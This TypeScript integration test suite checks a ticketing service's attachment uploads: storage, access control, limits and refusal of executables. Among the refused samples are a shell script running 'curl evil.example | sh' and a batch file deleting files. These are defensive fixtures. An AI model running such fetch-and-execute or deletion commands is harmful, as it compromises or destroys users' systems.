import { queryDatabase } from '@support/testing';
import { createHash } from 'node:crypto';
import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { TicketingHarness } from './support/ticketing-harness';

const MiB = 1024 * 1024;
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=', 'base64');
const sha256 = (bytes: Buffer) => createHash('sha256').update(bytes).digest('hex');

describe('ticket attachments (ticketing alone, real Kafka and MariaDB)', () => {
  let harness: TicketingHarness;
  let alice: string;
  let mallory: string;
  let agent: string;

  beforeAll(async () => {
    harness = await TicketingHarness.start('attach');
    alice = await TicketingHarness.token({ sub: 'alice', role: 'customer', account_id: 'acct-pro' });
    mallory = await TicketingHarness.token({ sub: 'mallory', role: 'customer', account_id: 'acct-other' });
    agent = await TicketingHarness.token({ sub: 'agent-7', role: 'agent' });
  });

  afterAll(async () => {
    await harness?.stop();
  });

  async function storedFiles(): Promise<string[]> {
    const entries = await readdir(harness.attachmentsDir, { recursive: true, withFileTypes: true });
    return entries
      .filter((e) => e.isFile())
      .map((e) => e.name)
      .sort();
  }

  async function attachmentRows(ticketId: string): Promise<number> {
    const rows = await queryDatabase(harness.database, 'SELECT COUNT(*) AS n FROM ticket_attachment WHERE ticket_id = ?', [ticketId]);
    return Number(rows[0].n);
  }

  const download = (ticketId: string, attachmentId: string, token: string) =>
    fetch(`${harness.url}/v1/tickets/${ticketId}/attachments/${attachmentId}`, { headers: { authorization: `Bearer ${token}` } });

  it('stores a screenshot under its SHA-256 with the type its bytes show, and lists it on the ticket', async () => {
    const ticket = await harness.fileTicket(alice);
    const upload = await harness.upload(ticket.id, alice, { bytes: PNG, filename: 'C:\\Users\\alice\\screen shot.png', type: 'image/png' });
    expect(upload.status).toBe(201);
    expect(upload.body).toMatchObject({
      filename: 'screen shot.png',
      contentType: 'image/png',
      size: PNG.length,
      sha256: sha256(PNG),
      uploadedBy: 'alice',
      downloadUrl: `/v1/tickets/${ticket.id}/attachments/${upload.body.id}`,
    });

    const digest = sha256(PNG);
    expect(await readFile(path.join(harness.attachmentsDir, digest.slice(0, 2), digest.slice(2, 4), digest))).toEqual(PNG);
    const [row] = await queryDatabase(harness.database, 'SELECT * FROM ticket_attachment WHERE id = ?', [upload.body.id]);
    expect(row).toMatchObject({
      ticket_id: ticket.id,
      sha256: digest,
      content_type: 'image/png',
      declared_content_type: 'image/png',
      size_bytes: PNG.length,
    });

    const view = await harness.call('GET', `/v1/tickets/${ticket.id}`, alice);
    expect(view.body.attachments).toEqual([upload.body]);
  });

  it('serves the bytes to the requester and to agents, as a download that browsers must not sniff', async () => {
    const ticket = await harness.fileTicket(alice);
    const log = Buffer.from('10:00:01 ERROR audio device lost\n10:00:02 INFO reconnecting\n');
    const upload = await harness.upload(ticket.id, alice, { bytes: log, filename: 'отчёт "zoom".log', type: 'text/x-log' });
    expect(upload.status).toBe(201);
    expect(upload.body.contentType).toBe('text/plain; charset=utf-8');

    for (const token of [alice, agent]) {
      const response = await download(ticket.id, upload.body.id, token);
      expect(response.status).toBe(200);
      expect(Buffer.from(await response.arrayBuffer())).toEqual(log);
      expect(response.headers.get('content-type')).toBe('text/plain; charset=utf-8');
      expect(response.headers.get('content-length')).toBe(String(log.length));
      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
      expect(response.headers.get('content-disposition')).toBe(
        `attachment; filename="_____ _zoom_.log"; filename*=UTF-8''${encodeURIComponent('отчёт "zoom".log')}`,
      );
    }
  });

  it('hides a ticket’s files from other customers, for upload and download alike', async () => {
    const ticket = await harness.fileTicket(alice);
    const upload = await harness.upload(ticket.id, alice, { bytes: Buffer.from('private notes'), filename: 'notes.txt' });
    expect(upload.status).toBe(201);

    const peek = await download(ticket.id, upload.body.id, mallory);
    expect(peek.status).toBe(404);
    expect(((await peek.json()) as { code: string }).code).toBe('ticket_not_found');
    const drop = await harness.upload(ticket.id, mallory, { bytes: Buffer.from('spam'), filename: 'spam.txt' });
    expect(drop.status).toBe(404);
    expect(await attachmentRows(ticket.id)).toBe(1);

    const otherTicket = await harness.fileTicket(alice);
    expect((await download(otherTicket.id, upload.body.id, alice)).status).toBe(404);
    expect((await download(ticket.id, '01a2f3e4-0000-7000-8000-000000000000', alice)).status).toBe(404);
    expect((await download(ticket.id, 'not-an-id', alice)).status).toBe(400);
    expect((await fetch(`${harness.url}/v1/tickets/${ticket.id}/attachments/${upload.body.id}`)).status).toBe(401);
  });

  it.each([
    ['an ELF binary', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00, 0, 0, 0, 0]), 'screenshot.png', 'image/png'],
    ['a Windows program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(128, 0x90)]), 'invoice.pdf', 'application/pdf'],
    ['a Mach-O binary', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 0x07, 0x00, 0x00, 0x01, 0x03, 0, 0, 0]), 'log.txt', 'text/plain'],
    ['a shell script', Buffer.from('#!/bin/bash\ncurl evil.example | sh\n'), 'steps.txt', 'text/plain'],
    ['a batch file, known by its name', Buffer.from('@echo off\r\ndel /q *\r\n'), 'fix-audio.bat', 'text/plain'],
  ])('refuses %s (415), storing nothing', async (_what, bytes, filename, type) => {
    const ticket = await harness.fileTicket(alice);
    const before = await storedFiles();
    const response = await harness.upload(ticket.id, alice, { bytes, filename, type });
    expect(response.status).toBe(415);
    expect(response.body).toMatchObject({ code: 'executable_refused', errors: [{ field: 'file' }] });
    expect(response.body.message).toMatch(/executables are refused/);
    expect(await storedFiles()).toEqual(before);
    expect(await attachmentRows(ticket.id)).toBe(0);
  });

  it('refuses a file whose bytes contradict the type it was sent as (415)', async () => {
    const ticket = await harness.fileTicket(alice);
    const response = await harness.upload(ticket.id, alice, { bytes: PNG, filename: 'report.pdf', type: 'application/pdf' });
    expect(response.status).toBe(415);
    expect(response.body).toMatchObject({
      code: 'content_type_mismatch',
      message: 'file: declared as application/pdf but its bytes are image/png',
    });
  });

  it('takes a file of exactly 25 MiB and refuses one byte more (413) without storing it', async () => {
    const ticket = await harness.fileTicket(alice);
    const limit = Buffer.alloc(25 * MiB, 'a');
    const accepted = await harness.upload(ticket.id, alice, { bytes: limit, filename: 'huge.log', type: 'text/plain' });
    expect(accepted.status).toBe(201);
    expect(accepted.body.size).toBe(25 * MiB);

    const before = await storedFiles();
    const tooLarge = await harness.upload(ticket.id, alice, {
      bytes: Buffer.alloc(25 * MiB + 1, 'b'),
      filename: 'huger.log',
      type: 'text/plain',
    });
    expect(tooLarge.status).toBe(413);
    expect(tooLarge.body).toMatchObject({ code: 'attachment_too_large', errors: [{ field: 'file' }] });
    expect(await storedFiles()).toEqual(before);
    expect(await attachmentRows(ticket.id)).toBe(1);
  });

  it('takes at most 10 files a ticket, even when they arrive at once (409 beyond)', async () => {
    const ticket = await harness.fileTicket(alice);
    const uploads = await Promise.all(
      Array.from({ length: 12 }, (_, i) =>
        harness.upload(ticket.id, i % 2 ? agent : alice, { bytes: Buffer.from(`log ${i}\n`), filename: `log-${i}.txt` }),
      ),
    );
    const statuses = uploads.map((u) => u.status).sort();
    expect(statuses).toEqual([...Array(10).fill(201), 409, 409]);
    expect(uploads.find((u) => u.status === 409)!.body).toMatchObject({ code: 'attachment_limit_reached', limit: 10 });
    expect(await attachmentRows(ticket.id)).toBe(10);

    const eleventh = await harness.upload(ticket.id, alice, { bytes: Buffer.from('one more'), filename: 'more.txt' });
    expect(eleventh.status).toBe(409);
    const view = await harness.call('GET', `/v1/tickets/${ticket.id}`, alice);
    expect(view.body.attachments).toHaveLength(10);
  });

  it('stores bytes once when the same file is attached twice', async () => {
    const ticket = await harness.fileTicket(alice);
    const bytes = Buffer.from(`same bytes ${Date.now()}`);
    const first = await harness.upload(ticket.id, alice, { bytes, filename: 'a.txt' });
    const second = await harness.upload(ticket.id, agent, { bytes, filename: 'b.txt' });
    expect([first.status, second.status]).toEqual([201, 201]);
    expect(second.body.sha256).toBe(first.body.sha256);
    expect(second.body.id).not.toBe(first.body.id);
    expect((await storedFiles()).filter((name) => name === first.body.sha256)).toHaveLength(1);
  });

  describe('a malformed upload', () => {
    let ticketId: string;

    beforeAll(async () => {
      ticketId = (await harness.fileTicket(alice)).id;
    });

    it('is not multipart (415)', async () => {
      const response = await harness.call('POST', `/v1/tickets/${ticketId}/attachments`, alice, { file: 'aGVsbG8=' });
      expect(response.status).toBe(415);
      expect(response.body.message).toMatch(/^file: send multipart\/form-data/);
    });

    it('sends the file under another name (400)', async () => {
      const response = await harness.upload(ticketId, alice, { bytes: PNG, filename: 'a.png', field: 'attachment' });
      expect(response.status).toBe(400);
      expect(response.body).toMatchObject({
        code: 'invalid_upload',
        message: 'file: the file must be sent in the field "file", not "attachment"',
      });
    });

    it('sends no file, or two, or extra fields (400)', async () => {
      const cases: FormData[] = [];
      const onlyText = new FormData();
      onlyText.append('note', 'hello');
      cases.push(onlyText);
      const two = new FormData();
      two.append('file', new Blob([PNG]), 'a.png');
      two.append('file', new Blob([PNG]), 'b.png');
      cases.push(two);
      const extra = new FormData();
      extra.append('file', new Blob([PNG]), 'a.png');
      extra.append('public', 'true');
      cases.push(extra);
      for (const body of cases) {
        const response = await fetch(`${harness.url}/v1/tickets/${ticketId}/attachments`, {
          method: 'POST',
          headers: { authorization: `Bearer ${alice}` },
          body,
        });
        expect(response.status).toBe(400);
        expect(((await response.json()) as { errors: Array<{ field: string }> }).errors).toEqual([
          expect.objectContaining({ field: 'file' }),
        ]);
      }
      expect(await attachmentRows(ticketId)).toBe(0);
    });

    it('is an empty file (400)', async () => {
      const response = await harness.upload(ticketId, alice, { bytes: Buffer.alloc(0), filename: 'empty.txt' });
      expect(response.status).toBe(400);
      expect(response.body.code).toBe('empty_file');
    });
  });

  it('takes no file on a closed ticket (409)', async () => {
    const ticket = await harness.fileTicket(alice);
    expect((await harness.call('PATCH', `/v1/tickets/${ticket.id}`, agent, { status: 'solved' })).status).toBe(200);
    expect((await harness.call('PATCH', `/v1/tickets/${ticket.id}`, agent, { status: 'closed' })).status).toBe(200);
    const response = await harness.upload(ticket.id, alice, { bytes: PNG, filename: 'late.png' });
    expect(response.status).toBe(409);
    expect(response.body.code).toBe('ticket_closed');
  });
});
